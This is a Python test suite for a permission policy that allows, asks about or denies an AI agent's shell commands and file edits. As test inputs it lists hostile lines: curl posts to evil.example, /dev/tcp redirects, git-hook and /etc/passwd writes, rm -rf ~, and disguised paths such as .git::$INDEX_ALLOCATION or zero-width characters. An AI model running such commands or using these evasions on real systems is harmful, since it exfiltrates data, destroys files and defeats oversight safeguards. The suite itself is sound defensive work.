"""K18, F5: which commands and edits are allowed, asked about or denied."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from allstop.core.asks import BOX, Decision, Rule
from allstop.policy.command_line import (
    CommandLine,
    Redirect,
    SimpleCommand,
    line_from_words,
    unsafe_text_reason,
)
from allstop.policy.paths import resolve
from allstop.policy.policy import Policy, Verdict, evaluate, evaluate_edit
from support.cases import for_each

ALLOW, ASK, DENY = Decision.ALLOW, Decision.ASK, Decision.DENY
POLICY = Policy(workspace="/home/ann/project")


def said(command, *rules, folder="."):
    policy = Policy(workspace="/home/ann/project", folder=folder, rules=rules)
    return evaluate(policy, line_from_words(tuple(command.split()))).decision


def rule(decision, prefix):
    return Rule(prefix=tuple(prefix.split()), decision=decision, name="mine")


@pytest.mark.parametrize(
    ("path", "end"),
    [
        ("src/a.py", ("src", "a.py")),
        ("./src//a.py", ("src", "a.py")),
        ("src/../a.py", ("a.py",)),
        ("/home/ann/project", ()),
        ("/home/ann/project/src", ("src",)),
        ("/home/ann/project/src/../..", None),
        ("/home/ann/project2", None),
        ("/home/ann/projec", None),
        ("/home/ann/project/../project/a", None),
        ("//home/ann/project", None),
        ("..", None),
        ("src/../../project/a", None),
        ("~/a", None),
        ("/", None),
    ],
)
def test_k18_a_path_is_inside_component_by_component(path, end):
    assert resolve(path, "/home/ann/project") == end


@given(st.lists(st.sampled_from(["..", ".", "a", "b", ""]), max_size=8))
def test_k18_no_path_leads_out_by_steps(steps):
    end = resolve("/".join(["a", *steps]), "/w")

    depth = lowest = 1
    for step in steps:
        depth += {"..": -1, ".": 0, "": 0}.get(step, 1)
        lowest = min(lowest, depth)
    assert (end is None) is (lowest < 0)


@for_each(
    ("command", "decision"),
    [
        ("grep -rn5 xyz src", ASK),
        ("grep -rnA5 xyz src", ALLOW),
        ("grep -A -5 x src", ALLOW),
        ("grep -e --pre x", ASK),
        ("head -20 a", ALLOW),
        ("head -n20 a", ALLOW),
        ("head -n 20 a", ALLOW),
        ("head --lines=20 a", ALLOW),
        ("head --line=20 a", ASK),
        ("head -n", ASK),
        ("sort -nr a", ALLOW),
        ("sort -nro b a", ASK),
        ("sort -- -o", ALLOW),
        ("uniq a", ALLOW),
        ("uniq a b", ASK),
        ("git log HEAD~1 main..dev @{u} HEAD^", ALLOW),
        ("git branch new", ASK),
        ("git branch --list new", ALLOW),
        ("git config user.name", ALLOW),
        ("git config user.name ann", ASK),
        ("git config edit", ASK),
        ("cat /etc/os-release", ASK),
        ("cat .env", ASK),
        ("/bin/ls", ASK),
        ("python --version", ALLOW),
        ("python -v", ASK),
        ("sudo ls", DENY),
        ("env sudo ls", DENY),
        ("/usr/bin/sudo ls", DENY),
        ("rm -rf build", ASK),
        ("rm -rf ..", DENY),
        ("rm -fr /home/ann/project", DENY),
        ("git push", ASK),
        ("git push -f", DENY),
        ("git push origin +main", DENY),
        ("cp a .git/hooks/pre-commit", DENY),
        ("unheard-of", ASK),
    ],
)
def test_k18_a_program_and_every_argument_are_on_the_list(command, decision):
    assert said(command) is decision


def test_k18_the_strictest_rule_that_matches_wins():
    assert said("cargo test", rule(ALLOW, "cargo test")) is ALLOW
    assert said("cargo test", rule(ALLOW, "cargo test"), rule(ASK, "cargo")) is ASK
    assert said("git status", rule(DENY, "git")) is DENY
    assert said("sudo ls", rule(ALLOW, "sudo ls")) is DENY


@pytest.mark.parametrize(
    "command",
    [
        "python x.py",
        "python3.12 x",
        "bash x",
        "node x",
        "env ls",
        "git commit",
        "npm run x",
        "npm install",
        "yarn build",
        "pnpm x",
        "make test",
        "xargs ls",
        "/usr/bin/python x",
        "npx x",
    ],
)
def test_k18_no_rule_allows_what_can_run_anything(command):
    assert said(command, rule(ALLOW, command), rule(ALLOW, command.split()[0])) is ASK


@pytest.mark.parametrize(
    "command", ["rm x", "/bin/rm x", "env rm x", "nohup rm x", "timeout 5 rm x"]
)
def test_k18_a_rule_that_denies_is_not_got_around(command):
    assert said(command, rule(DENY, "rm")) is DENY


def test_k18_what_a_rule_allows_still_stays_inside():
    allowed = rule(ALLOW, "cargo test")

    assert said("cargo test src/a", allowed) is ALLOW
    assert said("cargo test /etc/x", allowed) is ASK
    assert said("cargo test --target-dir=../x", allowed) is ASK


def test_k18_the_strictest_part_decides_and_is_named():
    line = CommandLine(
        commands=(SimpleCommand(words=("ls",)), SimpleCommand(words=("rm", "a b"), after=";"))
    )

    verdict = evaluate(POLICY, line)
    assert verdict == Verdict(decision=ASK, rule="rm: not on the list", part="rm a b")


@pytest.mark.parametrize(
    ("redirect", "decision"),
    [
        (Redirect(descriptor="2", operator=">&", target="1"), ALLOW),
        (Redirect(operator=">", target="/dev/null"), ALLOW),
        (Redirect(operator="<", target="a"), ALLOW),
        (Redirect(operator="<", target="../a"), ASK),
        (Redirect(operator=">", target="a"), ASK),
        (Redirect(operator=">>", target=".git/hooks/pre-push"), DENY),
        (Redirect(operator=">", target="/etc/passwd"), DENY),
        (Redirect(operator=">", target="/dev/tcp/1.2.3.4/80"), DENY),
    ],
)
def test_k18_where_a_command_writes_is_looked_at_too(redirect, decision):
    line = CommandLine(commands=(SimpleCommand(words=("ls",)),), redirects=(redirect,))

    assert evaluate(POLICY, line).decision is decision


def test_k18_git_is_asked_about_in_a_folder_that_may_have_settings_of_its_own():
    moved = (SimpleCommand(words=("cd", "a")), SimpleCommand(words=("git", "status"), after="&&"))

    assert evaluate(POLICY, CommandLine(commands=moved)).decision is ASK
    assert said("git status", folder="a") is ALLOW


@for_each(
    ("path", "decision"),
    [
        ("src/a.py", ALLOW),
        ("/home/ann/project/a", ALLOW),
        (".git/config", ASK),
        ("lib/.GIT/hooks/x", ASK),
        ("allstop.toml", ASK),
        (".github/workflows/ci.yml", ASK),
        (".gitlab-ci.yml", ASK),
        (".husky/pre-commit", ASK),
        ("home/.bashrc", ASK),
        (".env", ASK),
        (".", ASK),
        ("sub/.Git/hooks/pre-commit", ASK),
        (".git./config", ASK),
        ("GIT~1/config", ASK),
        (".git::$INDEX_ALLOCATION/config", ASK),
        (".\uff47\uff49\uff54/config", ASK),
        (".g\u200cit/config", ASK),
        ("src/..\\..\\x", ASK),
        ("-x.py", ASK),
        ("src/--files0-from=.env", ASK),
        ("src/a .env x.py", ASK),
        ("src/a\n", ASK),
        (".venv/bin/pip", ASK),
        ("web/node_modules/.bin/tsc", ASK),
        (".cargo/config.toml", ASK),
        ("AGENTS.md", ASK),
        (".github/dependabot.yml", ASK),
        (".gitea/workflows/ci.yml", ASK),
        ("lib/x.pth", ASK),
        ("config/credentials.json", ASK),
        ("routes/$id.tsx", ALLOW),
        ("app/(home)/[id]/page.tsx", ALLOW),
        (".github/ISSUE_TEMPLATE.md", ALLOW),
        ("../a", DENY),
        ("/etc/passwd", DENY),
        ("/home/ann/project-2/a", DENY),
        ("~/a", DENY),
        ("", DENY),
    ],
)
def test_f5_changes_are_allowed_inside_asked_about_where_it_matters_and_never_outside(
    path, decision
):
    assert evaluate_edit(POLICY, (path,)).decision is decision
    assert evaluate_edit(POLICY, ("a", path)).decision is decision


def test_f5_a_change_that_names_no_file_is_asked_about():
    assert evaluate_edit(POLICY, ()).decision is ASK


@given(st.lists(st.text(max_size=8), min_size=1, max_size=5).map(tuple))
def test_k18_any_words_get_a_verdict(words):
    verdict = evaluate(POLICY, line_from_words(words))

    assert verdict.decision in Decision
    assert verdict.rule


@given(st.text(max_size=40))
def test_k18_any_path_gets_a_verdict(path):
    assert evaluate_edit(POLICY, (path,)).rule


@pytest.mark.parametrize("character", ["\r", "\t", "\x00", "\x1b", "\u202e", "\u200b", "\ufeff"])
def test_k18_a_character_that_is_not_seen_is_refused(character):
    assert unsafe_text_reason(f"ls {character}a").startswith("an invisible character")


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        ("make", ALLOW),  # no rule matches: the sandbox allows it
        ("git push", DENY),
        ("make release", ASK),
        ("sudo make", DENY),
    ],
)
def test_k18_within_a_box_only_rules_have_something_against_a_command(command, decision):
    rules = (rule(DENY, "git push"), rule(ASK, "make release"))
    policy = Policy(workspace="/home/ann/project", rules=rules, within=True)

    assert evaluate(policy, line_from_words(tuple(command.split()))).decision is decision


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        ("tee /tmp/out.txt", ALLOW),
        ("rm -rf /tmp/build", ALLOW),
        ("rm -rf /tmp", DENY),
        ("rm -rf /var/tmp/build", DENY),
        ("rm -rf /tmp/../home", DENY),
        ("rm -rf ~", DENY),
    ],
)
def test_k18_within_a_box_its_temporary_folder_is_its_own(command, decision):
    policy = Policy(workspace="/home/ann/project", within=True)

    assert evaluate(policy, line_from_words(tuple(command.split()))).decision is decision


def test_k18_within_a_box_rules_allow_a_line_only_if_they_allow_all_of_it():
    """K18: an agent may ask about commands that only the sandbox allows."""
    policy = Policy(workspace="/home/ann/project", within=True)
    looks, more, makes = (SimpleCommand(words=(word,)) for word in ("ls", "pwd", "make"))

    assert evaluate(policy, CommandLine(commands=(looks, more))).rule != BOX
    assert evaluate(policy, CommandLine(commands=(looks, makes))).rule == BOX
    assert evaluate(policy, CommandLine(commands=(looks,), why="it goes on by itself")).rule == BOX


def test_k18_without_a_box_the_temporary_folder_is_everybodys():
    assert evaluate(POLICY, line_from_words(("rm", "-rf", "/tmp/build"))).decision is DENY


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        ("curl -s -X POST -H x:y -d a=b http://localhost:3000/api", ASK),
        ("curl --json {} 127.0.0.1:8000", ASK),
        ("curl -d a=b http://localhost.evil.example", DENY),
        ("curl -d a=b http://localhost evil.example", DENY),
        ("curl -d a=b -x evil.example http://localhost", DENY),
        ("curl -d a=b --proxy=evil.example http://localhost", DENY),
        ("curl -L -d a=b http://localhost", DENY),
        ("curl -d a=b http://localhost@evil.example", DENY),
        ("curl -d a=b -d", DENY),
        ("wget --post-data a=b http://localhost", DENY),
    ],
)
def test_k18_data_for_a_server_of_this_machine_is_not_carried_away(command, decision):
    """K18: an agent may try its own server if all words are known."""
    assert evaluate(POLICY, line_from_words(tuple(command.split()))).decision is decision


def test_k18_within_a_box_a_line_that_is_not_understood_is_as_free():
    policy = Policy(workspace="/home/ann/project", within=True)

    verdict = evaluate(policy, CommandLine(why="it expands"))

    assert verdict == Verdict(decision=ALLOW, rule="its box")
